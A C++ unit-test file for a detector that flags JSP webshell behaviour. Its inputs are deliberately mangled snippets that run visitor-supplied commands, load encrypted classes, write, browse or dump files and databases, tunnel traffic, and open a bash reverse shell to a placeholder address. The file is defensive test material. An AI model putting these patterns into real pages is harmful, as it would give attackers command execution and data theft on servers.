#include <gtest/gtest.h>

#include "detect/scripts/pages.h"

namespace afterpatch::detect::scripts {
namespace {

// What the page lets a visitor do, of a page of JSP.
std::string jsp(std::string_view text) {
  return verdict(text, ".jsp");
}

constexpr std::string_view kCommand = "web-content-starts-command";
constexpr std::string_view kLoads = "web-content-loads-assembly";

TEST(JspPages, SeesACommandOfTheRequest) {
  EXPECT_EQ(jsp("<~ Runtime.getRun_~time().ex_~ec(request.getParameter(\"x\")); ~>"), kCommand);
}

TEST(JspPages, IsSilentAboutACommandOfThePage) {
  EXPECT_EQ(jsp("<~ Runtime.getRun_~time().ex_~ec(\"uptime\"); out.print(request.getParameter(\"x\")); ~>"),
            "");
}

TEST(JspPages, SeesACommandInAnArrayOrAList) {
  EXPECT_EQ(jsp("<~ String[] c = new String[3]; c[2] = request.getParameter(\"x\");"
                "Runtime.getRun_~time().ex_~ec(c); ~>"),
            kCommand);
  EXPECT_EQ(jsp("<~ String s = request.getHeader(\"x\");"
                "Runtime.getRun_~time().ex_~ec(new String[]{\"cmd\", \"/c\", s}); ~>"),
            kCommand);
  EXPECT_EQ(jsp("<~ List<String> l = new ArrayList<String>(); l.add(request.getParameter(\"x\"));"
                "new Process_~Builder(l).start(); ~>"),
            kCommand);
}

TEST(JspPages, FollowsTextThatGrows) {
  EXPECT_EQ(jsp("<~ StringBuilder b = new StringBuilder(); String q = request.getQueryString();"
                "for (int i = 0; i < 3; i++) { b.append(q); }"
                "Runtime.getRun_~time().ex_~ec(b.toString()); ~>"),
            kCommand);
}

TEST(JspPages, FollowsVariablesThatOtherLanguagesHaveAsWords) {
  EXPECT_EQ(jsp("<~ InputStream in = request.getInputStream(); byte[] is = new byte[99]; in.read(is);"
                "String fn = new String(is); Runtime.getRun_~time().ex_~ec(fn); ~>"),
            kCommand);
}

TEST(JspPages, FollowsAChainOfMethodsDefinedBeforeTheirUse) {
  EXPECT_EQ(jsp("<~! void a(String s) throws Exception { Runtime.getRun_~time().ex_~ec(s); }"
                "void b(String s) throws Exception { a(s); } void c(String s) throws Exception { b(s); } ~>"
                "<~ c(request.getParameter(\"x\")); ~>"),
            kCommand);
}

TEST(JspPages, FollowsFieldsAndConstructors) {
  EXPECT_EQ(jsp("<~! class Job { private String line; Job(String line) { this.line = line; }"
                "void go() throws Exception { Runtime.getRun_~time().ex_~ec(line); } } ~>"
                "<~ new Job(request.getParameter(\"x\")).go(); ~>"),
            kCommand);
}

TEST(JspPages, TellsMethodsOfThePageFromThoseOfOtherClasses) {
  // The page's own exec and getParameter are not those of Runtime and of the request.
  EXPECT_EQ(
      jsp("<~! String exec(String s) { return Runtime.getRun_~time().ex_~ec(s).toString(); }"
          "class Wrapped extends HttpServletRequestWrapper { Wrapped(HttpServletRequest r) { super(r); }"
          "public String getParameter(String n) { return super.getParameter(n); } } ~>"
          "<~ request = new Wrapped(request); out.print(exec(request.getParameter(\"x\"))); ~>"),
      kCommand);
}

TEST(JspPages, FollowsWhatASessionKeeps) {
  EXPECT_EQ(jsp("<~! void send(HttpSession s, String line) throws Exception {"
                "Writer w = (Writer) s.getAttribute(\"to\"); w.write(line); } ~>"
                "<~ Process p = Runtime.getRun_~time().ex_~ec(\"cmd\");"
                "session.setAttribute(\"to\", new OutputStreamWriter(p.getOutputStream()));"
                "send(session, request.getParameter(\"x\")); ~>"),
            kCommand);
}

TEST(JspPages, SeesAFilterThatThePageRegisters) {
  EXPECT_EQ(
      jsp("<~! public class F implements Filter { public void doFilter(ServletRequest q, ServletResponse r,"
          "FilterChain c) { Runtime.getRun_~time().ex_~ec(q.getParameter(\"x\")); } } ~>"),
      kCommand);
}

TEST(JspPages, SeesCommandsThatComeOverAWebSocket) {
  EXPECT_EQ(jsp("<~! public class E extends Endpoint implements MessageHandler.Whole<String> {"
                "public void onMessage(String s) { Runtime.getRun_~time().ex_~ec(new String[]{\"sh\", "
                "\"-c\", s}); } }"
                "~>"),
            kCommand);
}

TEST(JspPages, SeesReflectionOnConstantNames) {
  EXPECT_EQ(jsp("<~ Class c = Class.forName(\"java.lang.Run\" + \"time\");"
                "c.getMethod(new String(new byte[]{101, 120, 101, 99}), String.class)"
                ".invoke(c.getMethod(\"getRuntime\").invoke(null), request.getParameter(\"x\")); ~>"),
            kCommand);
  EXPECT_EQ(jsp("<~ String m = new StringBuilder(\"ce\" + \"xe\").reverse().toString();"
                "Runtime.class.getMethod(m, String.class).invoke(Runtime.getRuntime(),"
                "request.getParameter(\"x\")); ~>"),
            kCommand);
}

TEST(JspPages, SeesThatAStartIsHidden) {
  EXPECT_EQ(jsp("<~ Object[] a = args(); Class c = Class.forName(\"java.lang.Process\" + \"Impl\");"
                "c.getDeclaredMethod(\"start\").invoke(null, a); ~>"),
            "web-content-hides-command");
}

TEST(JspPages, IsSilentAboutADriverLoadedByName) {
  EXPECT_EQ(jsp("<~ Class.forName(\"com.mysql.jdbc.Driver\").newInstance();"
                "Connection c = DriverManager.getConnection(\"jdbc:mysql://localhost/x\", \"u\", \"p\");"
                "PreparedStatement s = c.prepareStatement(\"select * from t where id = ?\");"
                "s.setString(1, request.getParameter(\"id\")); ~>"),
            "");
}

TEST(JspPages, SeesAClassLoaderThatTakesTheRequest) {
  EXPECT_EQ(jsp("<~! class U extends ClassLoader { U(ClassLoader c) { super(c); }"
                "public Class g(byte[] b) { return super.define_~Class(b, 0, b.length); } } ~>"
                "<~ Cipher c = Cipher.getInstance(\"AES\");"
                "new U(getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer("
                "request.getReader().readLine()))).newInstance().equals(pageContext); ~>"),
            kLoads);
}

TEST(JspPages, SeesAClassCarriedAsText) {
  const std::string class_file = "yv66vg" + std::string(300, 'A');
  EXPECT_EQ(jsp("<~ load(Base64.getDecoder().decode(\"" + class_file + "\")); ~>"),
            "web-content-loads-hidden-program");
  EXPECT_EQ(jsp("<~ load(Base64.getDecoder().decode(\"iVBORw\" + \"" + std::string(300, 'A') + "\")); ~>"),
            "");
}

TEST(JspPages, SeesAClassCarriedAsNumbers) {
  std::string numbers = "31, -117";
  for (int i = 0; i < 300; ++i) numbers += ", " + std::to_string(i % 127);
  EXPECT_EQ(jsp("<~ byte[] b = inflate(new byte[]{" + numbers +
                "});"
                "ClassLoader.class.getDeclaredMethod(\"define\" + \"Class\").invoke(loader, b); ~>"),
            "web-content-loads-hidden-program");
  EXPECT_EQ(jsp("<~ byte[] b = new byte[]{" + numbers + "}; response.getOutputStream().write(b); ~>"), "");
}

TEST(JspPages, SeesScriptEnginesAndExpressions) {
  EXPECT_EQ(jsp("<~ new javax.script.ScriptEngineManager().getEngineByName(\"js\")"
                ".ev_~al(request.getParameter(\"x\")); ~>"),
            "web-content-evaluates-request");
  EXPECT_EQ(jsp("${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"
                ".ex_~ec(param.x)}"),
            kCommand);
  EXPECT_EQ(jsp("<p>${param.x}</p>"), "");
}

TEST(JspPages, SeesALookupOfANameThatTheVisitorGives) {
  EXPECT_EQ(jsp("<~ new InitialContext().look_~up(request.getParameter(\"x\")); ~>"), kLoads);
  EXPECT_EQ(jsp("<~ Context c = (Context) new InitialContext().lookup(\"java:comp/env\");"
                "out.print(c.lookup(request.getParameter(\"x\"))); ~>"),
            "");
}

TEST(JspPages, SeesAWriterOfAnyFile) {
  const std::string_view writes = "web-content-writes-request";
  EXPECT_EQ(jsp("<~ new FileOutput_~Stream(request.getParameter(\"f\"))"
                ".write(request.getParameter(\"t\").getBytes()); ~>"),
            writes);
  EXPECT_EQ(
      jsp("<~ BufferedWriter w = new BufferedWriter(new FileWriter(new File(request.getParameter(\"f\"))));"
          "w.write(request.getParameter(\"t\")); ~>"),
      writes);
  EXPECT_EQ(jsp("<~ File f = new File(request.getParameter(\"f\")); PrintWriter w = new PrintWriter(f);"
                "w.println(request.getParameter(\"t\")); ~>"),
            writes);
  EXPECT_EQ(
      jsp("<~ InputStream in = new URL(request.getParameter(\"u\")).openStream(); byte[] b = new byte[9];"
          "OutputStream o = new FileOutput_~Stream(request.getParameter(\"f\"));"
          "int n; while ((n = in.read(b)) > 0) o.write(b, 0, n); ~>"),
      writes);
}

TEST(JspPages, IsSilentAboutPagesThatWriteTheirOwnFiles) {
  EXPECT_EQ(jsp("<~ PrintWriter w = response.getWriter(); w.println(request.getParameter(\"t\")); ~>"), "");
  EXPECT_EQ(jsp("<~ FileWriter w = new FileWriter(\"/var/log/guests.txt\", true);"
                "w.write(request.getParameter(\"t\")); ~>"),
            "");
  EXPECT_EQ(jsp("<~ StringWriter s = new StringWriter(); PrintWriter w = new PrintWriter(s);"
                "w.print(request.getParameter(\"t\")); ~>"),
            "");
}

TEST(JspPages, ShowsUploadsKeptUnderAnyNameAsPossible) {
  EXPECT_EQ(jsp("<~ List l = new ServletFileUpload(f).parseRequest(request); Iterator i = l.iterator();"
                "FileItem item = (FileItem) i.next(); item.write(new File(dir, item.getName())); ~>"),
            "web-content-keeps-upload-name?");
  EXPECT_EQ(jsp("<~ List l = new ServletFileUpload(f).parseRequest(request); Iterator i = l.iterator();"
                "FileItem item = (FileItem) i.next(); item.write(new File(dir, number + \".dat\")); ~>"),
            "");
}

TEST(JspPages, SeesABrowserOfAnyFile) {
  EXPECT_EQ(jsp("<~ File f = new File(request.getParameter(\"f\")); if (f.isDirectory()) { for (File x : "
                "f.listFiles())"
                "out.print(x); } else { InputStream s = new FileInputStream(f); out.print(s.read()); } ~>"),
            "web-content-file-browser");
  EXPECT_EQ(jsp("<~ File f = new File(application.getRealPath(\"/\")); for (File x : f.listFiles())"
                "out.print(x); ~>"),
            "");
}

TEST(JspPages, SeesADatabaseClient) {
  EXPECT_EQ(jsp("<~ Connection c = DriverManager.getConnection(request.getParameter(\"url\"));"
                "ResultSet r = c.createStatement().executeQuery(request.getParameter(\"q\")); ~>"),
            "web-content-database-client");
  EXPECT_EQ(jsp("<~ Connection c = DriverManager.getConnection(request.getParameter(\"url\"));"
                "ResultSet r = c.createStatement().executeQuery(\"select 1\"); ~>"),
            "");
}

TEST(JspPages, SeesADumpOfAllTables) {
  EXPECT_EQ(
      jsp("<~ Statement s = conn.createStatement();"
          "ResultSet r = s.executeQuery(\"select table_name from all_tables\");"
          "FileWriter w = new FileWriter(\"/tmp/\" + r.getString(1));"
          "ResultSet q = s.executeQuery(\"select * from \" + r.getString(1)); w.write(q.getString(1)); ~>"),
      "web-content-dumps-database");
}

TEST(JspPages, SeesATunnel) {
  EXPECT_EQ(jsp("<~ SocketChannel c = SocketChannel.open();"
                "c.connect(new InetSocketAddress(request.getHeader(\"to\"), 80)); byte[] b = new byte[99];"
                "request.getInputStream().read(b); ByteBuffer q = ByteBuffer.allocate(99); q.put(b); "
                "c.write(q); ~>"),
            "web-content-tunnels");
}

TEST(JspPages, SeesAShellJoinedToASocket) {
  const std::string_view remote = "web-content-opens-remote-shell";
  EXPECT_EQ(jsp("<~ Socket s = new Socket(\"192.0.2.1\", 9);"
                "Process p = Runtime.getRun_~time().ex_~ec(\"/bin/sh\"); join(s, p); ~>"),
            remote);
  EXPECT_EQ(jsp("<~ Runtime.getRun_~time().ex_~ec(\"bash -i >& /dev/t_~cp/192.0.2.1/9 0>&1\"); ~>"), remote);
  EXPECT_EQ(jsp("<~ Socket s = new Socket(\"localhost\", 25); out.print(s.isConnected()); ~>"), "");
}

TEST(JspPages, ReadsPagesOfXmlUnderAnyPrefix) {
  const std::string_view code = "Runtime.getRun_~time().ex_~ec(request.getParameter(\"x\"));";
  EXPECT_EQ(verdict("<a:root xmlns:a=\"http://java.sun.com/JSP/Page\"><a:scriptlet><![CDATA[" +
                        std::string(code) + "]]></a:scriptlet></a:root>",
                    ".jspx"),
            kCommand);
}

TEST(JspPages, ReadsEscapesOfUnicode) {
  EXPECT_EQ(jsp("<~ \\u0052untime.getRuntime().\\uuu0065xec(request.getParameter(\"x\")); ~>"), kCommand);
}

TEST(JspPages, ReadsCodeInTagsOfScript) {
  EXPECT_EQ(jsp("<script a=\"<~ Runtime.getRun_~time().ex_~ec(request.getParameter(\"x\")); ~>\"></script>"),
            kCommand);
}

TEST(JspPages, ReadsCodeBehindACommentInAScriptlet) {
  EXPECT_EQ(jsp("<~ int a; <~-- b --~> Runtime.getRun_~time().ex_~ec(request.getParameter(\"x\")); ~>"),
            kCommand);
}

TEST(JspPages, FollowsLambdasAndReferencesToMethods) {
  EXPECT_EQ(jsp("<~ Function<String, Process> f = c -> Runtime.getRun_~time().ex_~ec(c);"
                "f.apply(request.getParameter(\"x\")); ~>"),
            kCommand);
  EXPECT_EQ(jsp("<~ Optional.ofNullable(request.getParameter(\"x\"))"
                ".ifPresent(c -> { Runtime.getRun_~time().ex_~ec(c); }); ~>"),
            kCommand);
  EXPECT_EQ(jsp("<~ Function<String, Process> f = Runtime.getRun_~time()::ex_~ec;"
                "f.apply(request.getParameter(\"x\")); ~>"),
            kCommand);
  EXPECT_EQ(jsp("<~ Function<String, String> f = c -> c.trim(); "
                "out.print(f.apply(request.getParameter(\"x\"))); ~>"),
            "");
}

TEST(JspPages, ReadsTextBlocks) {
  EXPECT_EQ(jsp("<~ String s = \"\"\"\n a \"b\" { \"\"\" + request.getParameter(\"x\");"
                "Runtime.getRun_~time().ex_~ec(s); ~>"),
            kCommand);
}

TEST(JspPages, ResolvesEntitiesOnlyInPagesOfXml) {
  EXPECT_EQ(jsp("<~ String q = \"&quot;\"; Runtime.getRun_~time().ex_~ec(request.getParameter(\"x\")); ~>"),
            kCommand);
  EXPECT_EQ(verdict("<jsp:root version=\"2.0\"><jsp:scriptlet>&#82;untime.getRun_~time().ex_~ec("
                    "request.getParameter(&quot;x&quot;));</jsp:scriptlet></jsp:root>",
                    ".jspx"),
            kCommand);
}

TEST(JspPages, TellsTheClassNamedClassFromTheKeyword) {
  EXPECT_EQ(jsp("<~ Class c = Class.forName(\"com.example.Job\"); String s = request.getParameter(\"x\");"
                "Runtime.getRun_~time().ex_~ec(s); ~>"),
            kCommand);
}

TEST(JspPages, TakesTheRequestOutOfContainersByItsType) {
  EXPECT_EQ(jsp("<~ HttpServletRequest q = (HttpServletRequest) found.get(\"request\");"
                "Runtime.getRun_~time().ex_~ec(q.getHeader(\"x\")); ~>"),
            kCommand);
}

}  // namespace
}  // namespace afterpatch::detect::scripts
